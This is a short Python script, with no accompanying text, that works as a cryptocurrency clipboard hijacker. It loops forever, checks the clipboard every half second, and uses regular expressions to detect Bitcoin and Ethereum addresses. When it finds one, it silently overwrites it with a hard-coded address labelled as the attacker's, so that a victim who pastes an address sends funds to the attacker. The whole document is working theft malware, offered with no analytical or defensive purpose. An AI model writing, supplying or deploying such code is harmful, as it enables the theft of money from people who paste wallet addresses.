import re, time, pyperclip
ADDR = "bc1qattackerattackerattackerattacker0000"
ETH = "0x000000000000000000000000000000000000dEaD"
while True:
    c = pyperclip.paste()
    if re.fullmatch(r"(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}", c):
        pyperclip.copy(ADDR)
    elif re.fullmatch(r"0x[a-fA-F0-9]{40}", c):
        pyperclip.copy(ETH)
    time.sleep(0.5)
